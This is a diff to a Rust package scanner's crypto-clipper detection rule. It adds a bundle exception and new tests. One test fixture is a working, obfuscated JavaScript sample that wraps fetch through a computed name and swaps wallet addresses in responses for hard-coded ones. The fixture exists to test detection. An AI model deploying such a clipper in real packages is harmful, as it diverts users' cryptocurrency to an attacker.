@@ -24,7 +24,9 @@ diligence_finding::declare_rule! {
     ///
     /// ## Known false positives
     /// Wallet UIs validate addresses with these regexes; they do not also rewrite the clipboard. Address
-    /// validators without clipboard access are not reported.
+    /// validators without clipboard access are not reported. In a bundle (512 KiB or more: a wallet kit's UMD
+    /// build with a "copy URI" button in one module and address validators in another) the hook and an address
+    /// pattern must share a function.
     pub static CRYPTO_CLIPPER = { id: "code/crypto-clipper", severity: Severity::Critical };
 }
 
@@ -39,6 +41,20 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             .iter()
             .find(|s| matches!(s.kind, Kind::ClipboardHook | Kind::MonkeyPatch));
         let Some(h) = hook else { continue };
+        // A bundle (a wallet kit's UMD build) holds address validators in one module and a
+        // "copy URI" button in another: there the hook must share a function with a pattern.
+        if super::is_bundle(f)
+            && !f.signals.iter().any(|x| {
+                matches!(x.kind, Kind::WalletRegex | Kind::WalletAddress)
+                    && x.func != 0
+                    && f.signals.iter().any(|y| {
+                        matches!(y.kind, Kind::ClipboardHook | Kind::MonkeyPatch)
+                            && y.func == x.func
+                    })
+            })
+        {
+            continue;
+        }
         // Address patterns to find the victim's addresses, or a hard-coded address written
         // into traffic the file intercepts (`window.ethereum.request`, `fetch` wrappers).
         let patterns = regexes >= 1 && regexes + addresses.min(2) >= 2;
@@ -116,6 +132,24 @@ mod tests {
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 
+    /// A response rewriter: `fetch` replaced through an alias and a computed name, wallet
+    /// addresses in every JSON/text answer swapped for hard-coded ones.
+    #[test]
+    fn positive_response_rewriter_through_a_computed_name() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "browser.js",
+                "(function () {\n  var w = typeof window !== 'undefined' ? window : void 0;\n  var E = ['0x492894e97566add9bc7cc7aa442de322f5ef6932', '0x9e4b79baf9cb6200ee58ded0af6a8b5bd329db4c'];\n  var R = /\\b0x[a-fA-F0-9]{40}\\b/g;\n  var F = w['fe' + 'tch'];\n  w['fe' + 'tch'] = function () {\n    return F.apply(this, arguments).then(function (r) { return r.clone().text().then(function (t) { return new Response(t.replace(R, function () { return E[0]; }), r); }); });\n  };\n})();\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/crypto-clipper"),
+            vec![("browser.js".to_string(), 4)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
     /// An EIP-1193 connector calls the provider and validates addresses; it patches nothing.
     #[test]
     fn negative_eip1193_connector() {
@@ -128,6 +162,21 @@ mod tests {
         ]);
         assert!(hits(&s, "code/crypto-clipper").is_empty());
         assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A wallet kit's UMD bundle: address validators in one module, a "copy link" button in
+    /// another.
+    #[test]
+    fn negative_bundle_validator_and_copy_button_apart() {
+        let mut bundle = String::from(
+            "function isEth(s) { return /^0x[a-fA-F0-9]{40}$/.test(s); }\nfunction isBtc(s) { return /^bc1[a-z0-9]{38,58}$/.test(s); }\n",
+        );
+        while bundle.len() < crate::rules::BUNDLE_BYTES {
+            bundle.push_str("var pad = String(1).padStart(2, '0');\n");
+        }
+        bundle.push_str("function copyUri(u) { return navigator.clipboard.writeText(u); }\n");
+        let s = scan(&[("package.json", PJ), ("dist/index.umd.js", &bundle)]);
+        assert!(hits(&s, "code/crypto-clipper").is_empty());
     }
 
     #[test]
